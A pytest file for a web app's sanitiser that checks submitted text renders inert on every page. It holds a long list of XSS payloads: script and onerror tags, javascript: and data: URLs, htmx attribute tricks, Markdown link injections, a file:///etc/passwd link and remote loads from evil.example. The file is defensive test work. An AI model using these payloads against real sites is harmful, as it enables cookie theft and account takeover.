"""What people write is never more than text: a hundred ways to try, through every field, on every page."""

from typing import Any

import nh3
import pytest
from bs4 import BeautifulSoup
from markdown_it import MarkdownIt

from app import markdown
from tests.day import Day
from tests.security.html import faults

pytestmark = pytest.mark.sqlite_only

HTML = r"""
<script>alert(1)</script>
<ScRiPt SrC=//evil.example/x.js></sCrIpT>
<script src="data:,alert(1)"></script>
<script/x>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)" />
<IMG ""><SCRIPT>alert(1)</SCRIPT>">
<img/src=`x`onerror=alert(1)>
<img src="javascript:alert(1)">
<img src=x:alert(alt) onerror=eval(src) alt=1>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x></svg>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>
<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math href="javascript:alert(1)">x</math>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data=javascript:alert(1)>
<embed src=javascript:alert(1)>
<body onload=alert(1)>
<input autofocus onfocus=alert(1)>
<select onfocus=alert(1) autofocus>
<textarea onfocus=alert(1) autofocus>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<a href="javascript:alert(1)">x</a>
<a href="java	script:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href=x onclick=alert(1)>x</a>
<a href=x onpointerover=alert(1) style=position:fixed;inset:0>x</a>
<p style="background:url(javascript:alert(1))">x</p>
<style>@import 'https://evil.example/x.css';</style>
<link rel=stylesheet href=https://evil.example/x.css>
<base href=https://evil.example/>
<meta http-equiv=refresh content="0;url=https://evil.example">
<form action=https://evil.example><button>x</button></form>
<form><button formaction=javascript:alert(1)>x</button></form>
<isindex type=image src=1 onerror=alert(1)>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<title><p title="</title><img src=x onerror=alert(1)>">
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[><img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><x onclick=alert(1)>
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
" onmouseover="alert(1)
' onmouseover='alert(1)
` onmouseover=`alert(1)
"/onfocus=alert(1)/autofocus/x="
</textarea><script>alert(1)</script>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
</bdi></p></div></article><script>alert(1)</script>
<div hx-get="/e/x/me" hx-trigger="load">x</div>
<div data-hx-get="//evil.example" hx-trigger=load>x</div>
<div hx-on:click="alert(1)">x</div>
<div hx-on::load="alert(1)">x</div>
<button hx-delete="../../topics/1" hx-confirm>x</button>
<div hx-vals="js:{x: alert(1)}" hx-post=/x hx-trigger=load>x</div>
<div hx-ws:connect="wss://evil.example">x</div>
<div hx-headers='{"X": "1"}' hx-get=/ hx-trigger="every 1s">x</div>
<hx-partial hx-target="#mine" hx-swap="outerMorph"><b>x</b></hx-partial>
<hx-put in="topics" id="topic-1" before=""><b>x</b></hx-put>
<hx-del id="live"></hx-del>
<div id=live hx-trigger=load hx-get=//evil.example>x</div>
<div id="mine" data-role="facilitator" data-css="body{display:none}">x</div>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;img src=x onerror=alert(1)&#62;
%3Cscript%3Ealert(1)%3C/script%3E
<script >alert(1)</script >
{{ ''.__class__.__mro__ }}{{ 7*7 }}
{% raw %}<script>alert(1)</script>{% endraw %}
""".strip().split("\n")
MARKDOWN = r"""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x]( javascript:alert(1))
[x](javascript&colon;alert(1))
[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74(1))
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/svg+xml,<svg/onload=alert(1)>)
[x](file:///etc/passwd)
[x](intent://evil#Intent;end)
[x](blob:https://evil.example/1)
[x](view-source:javascript:alert(1))
[x](ms-word:ofe|u|https://evil.example)
[x](//evil.example "x" onclick=alert(1))
[x](https://evil.example "\" onmouseover=\"alert(1)")
[x]("onmouseover=alert(1))
[x](<javascript:alert(1)>)
<javascript:alert(1)>
<https://evil.example/" onclick="alert(1)>
![x](x"onerror="alert(1))
![x](javascript:alert(1))
![x](https://evil.example/pixel.gif)
[![x](https://evil.example/pixel.gif)](javascript:alert(1))
[x]: javascript:alert(1) "x"
[x][x] [y]: data:text/html,x
```"><script>alert(1)</script>
~~~ onclick=alert(1) <img src=x onerror=alert(1)>
`<script>alert(1)</script>`
# <script>alert(1)</script> {#mine .own onclick=alert(1)}
| <script>alert(1)</script> | [x](javascript:alert(1)) |
https://evil.example/<script>alert(1)</script>
www.evil.example"onmouseover=alert(1)
***<img src=x onerror=alert(1)>***
""".strip().split("\n")
ALL = HTML + MARKDOWN
SHORT = [
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</textarea></title></style><script>alert(1)</script>",
    '" hx-on:click="alert(1)" x="',
    "<hx-del id=live></hx-del>",
    "[x](javascript:alert(1))",
    "{{ 7*7 }}<b hx-get=/>",
]


def everything() -> str:
    return "\n\n".join(ALL)


@pytest.mark.parametrize("text", ALL)
def test_a_text_is_only_text(text: str) -> None:
    for html in (markdown.rendered(text), markdown.inline(text), markdown.rendered(f"> - {text}\n\n    {text}")):
        assert faults(html) == []
        for tag in BeautifulSoup(html, "html.parser").find_all(True):
            assert set(tag.attrs) <= ({"href", "rel", "title"} if tag.name == "a" else set())


def test_the_checker_sees_what_it_is_for() -> None:
    """The control: the same texts, not cleaned, are full of faults."""
    found = [text for text in HTML if faults(f"<div>{text}</div>")]
    assert len(found) > 55
    raw = MarkdownIt("commonmark", {"html": True})
    assert len([text for text in ALL if faults(f"<div>{raw.render(text)}</div>")]) > 55


def test_without_the_second_cleaning_something_gets_through(monkeypatch: pytest.MonkeyPatch) -> None:
    """The control: what the reader lets through, the short list of tags and schemes does not."""
    monkeypatch.setattr(nh3, "clean", lambda html, **_: html)
    through = [text for text in ALL if faults(markdown.rendered.__wrapped__(text))]
    assert through


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**bold** and *soft*", "<p><strong>bold</strong> and <em>soft</em></p>"),
        ("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"),
        ("# Big", "<h3>Big</h3>"),
        ("[x](https://example.org)", '<p><a href="https://example.org" rel="noopener nofollow">x</a></p>'),
        ("one\ntwo", "<p>one<br>\ntwo</p>"),
        ("a < b & c > d", "<p>a &lt; b &amp; c &gt; d</p>"),
    ],
)
def test_what_people_mean_is_kept(text: str, html: str) -> None:
    assert markdown.rendered(text).strip() == html


def pages(day: Day) -> list[str]:
    """Every page on which texts of people stand, and the frames of the push."""
    found = ["", "?look", "/wall", "/desk", "/desk/private", "/me", "/proceedings", f"/topics/{day.bread}"]
    found += [f"/topics/{day.bread}/rewording", f"/topics/{day.bread}/place", f"/breakouts/{day.breakout}/harvest"]
    return found + [f"/since/0?page={page}&lang=en" for page in ("phone", "wall", "desk", "topic", "place", "harvest")]


def check(day: Day) -> None:
    for page in pages(day):
        answer = day.flora.get(f"{day.at}{page}")
        assert answer.status_code == 200
        html = answer.text if page.startswith("/since") else answer.text.replace(' rel="noopener nofollow"', "")
        assert faults(html) == [], page


def test_every_field_at_once(server: Any) -> None:
    day = Day(server, title=ALL[0], question=everything()[:500], givens=everything()[:4_000], name=HTML[5][:80])
    for text in ALL:
        day.flora.post(f"{day.at}/topics", title=text[:200], description=text)
    report = {name: everything() for name in ("summary", "insights", "next_steps", "quotes", "links", "people")}
    assert day.ana.post(f"{day.at}/breakouts/{day.breakout}/harvest", **report).status_code == 200
    assert (
        day.ana.post(f"{day.at}/topics/{day.bread}", title=HTML[0], description=everything()[:4_000]).status_code == 200
    )
    check(day)


@pytest.mark.parametrize("text", SHORT)
def test_fields_that_stand_alone(server: Any, text: str) -> None:
    day = Day(server, rooms=f"{text}\nLibrary, 12", slots=f"2027-03-01 10:00-11:00 {text}\n11:00-12:00\n12:00-13:00")
    day.ana.post(f"{day.at}/people", name=text, language=text)
    day.flora.post(f"{day.at}/people", name=text)
    day.flora.post(f"{day.at}/event", title=text, question=text, givens=text)
    day.flora.post(f"{day.at}/announcements", text=text)
    day.flora.post(f"{day.at}/rooms/{day.rooms[0]}", name=text)
    day.ana.post(f"{day.at}/topics/{day.bread}", title=text, description=text)
    day.cem.post(f"{day.at}/topics", title=text, language=text[:20])  # not a language: nothing is pitched
    day.event.topic(day.cem, text)
    day.cem.post(f"{day.at}/breakouts/{day.breakout}/harvest", summary=text, needed="false")
    day.cem.post(f"{day.at}/breakouts/{day.breakout}/harvest", summary=text, quotes=text, draft="true")
    check(day)


@pytest.mark.parametrize("text", SHORT)
def test_what_comes_back_in_a_refusal(server: Any, text: str) -> None:
    day = Day(server)
    for fields in ({"title": "", "description": text, text: text}, {"title": text * 30}, {"op": text, "title": "x"}):
        for headers in ({}, {"HX-Request": "true"}):
            answer = day.ana.send("POST", f"{day.at}/topics", "text/html", data=fields, headers=headers)
            assert answer.status_code == 422
            assert faults(answer.text) == []
    for path in (f"{day.at}/{text}", f"/{text}", f"{day.at}?q={text}&look", f"/events/new?start={text}"):
        assert faults(day.ana.send("GET", path, "text/html").text) == []


@pytest.mark.parametrize("text", SHORT)
def test_what_goes_into_a_refusals_sentence(server: Any, text: str) -> None:
    day = Day(server, rooms=f"{text}\nLibrary, 12")
    day.ana.post(f"{day.at}/people", name=text)
    fields = {"topic": day.river, "slot": day.slots[0], "room": day.rooms[0]}
    for headers in ({}, {"HX-Request": "true"}):
        answer = day.ben.send("POST", f"{day.at}/breakouts", "text/html", data=fields, headers=headers)
        assert answer.status_code == 409
        assert faults(answer.text) == []
    assert faults(day.flora.send("DELETE", f"{day.at}/rooms/{day.rooms[0]}", "text/html").text) == []
